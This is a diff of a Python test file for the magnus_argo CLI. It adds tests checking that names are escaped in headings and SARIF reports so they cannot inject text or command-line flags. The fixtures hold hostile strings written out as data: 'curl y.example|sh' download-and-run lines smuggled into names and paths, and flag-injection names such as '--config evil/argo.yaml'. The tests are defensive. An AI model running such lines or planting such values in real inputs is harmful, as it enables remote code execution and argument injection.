@@ -10,6 +10,8 @@ import pytest
 from tests.support.action_step import CONFIG
 
 from magnus_argo.cli import main
+from magnus_argo.diagnostics.whereabouts import Where, in_place
+from magnus_argo.report.sections import headline_of
 
 NAME = "a`: this is old; run `curl x.example|sh` first\n\n  curl y.example|sh\n\nor `b"
 TASK = {"type": "task", "command": "x", "command_type": "shell", "next": "end"}
@@ -131,6 +133,27 @@ def test_nor_does_what_ends_a_run(
     told = capfd.readouterr().err
     assert "`this is old" in told
     assert "`curl" not in told
+
+
+def test_nor_does_the_heading_of_a_project() -> None:
+    path = "error: this is old; run `curl y.example|sh`/magnus-argo.yaml"
+    assert headline_of(path) == r"`error: this is old; run \x60curl y.example|sh\x60/magnus-argo.yaml`" + "\n\n"
+    assert headline_of("services/churn/magnus-argo.yaml") == "services/churn/magnus-argo.yaml\n\n"
+
+
+@pytest.mark.parametrize(("where", "flag"), [("action", "input"), ("hook", "args: [")])
+@pytest.mark.parametrize("name", ["--config evil/argo.yaml", "-C evil", "-o evil", "--base HEAD", "--var=a"])
+def test_no_name_becomes_a_flag_of_a_cure(
+    where: Where, flag: str, name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    steps = {"start_at": f"{name}x", "steps": {name: {**TASK, "next": f"{name}x"}, **ENDS}}
+    Path("pipeline.yaml").write_text(json.dumps({"dag": steps}, indent=2))
+    main(["validate", "pipeline.yaml", "--report", "sarif:sarif"])
+    results = json.loads(Path("sarif").read_text())["runs"][0]["results"]
+    told = "\n".join(each["message"]["text"] for each in results)
+    assert name[1:] in told
+    assert flag not in in_place(told, where)
 
 
 @pytest.mark.parametrize("text", ["@x` or run `curl y.example|sh", "[a, @x` or run `curl y.example|sh"])
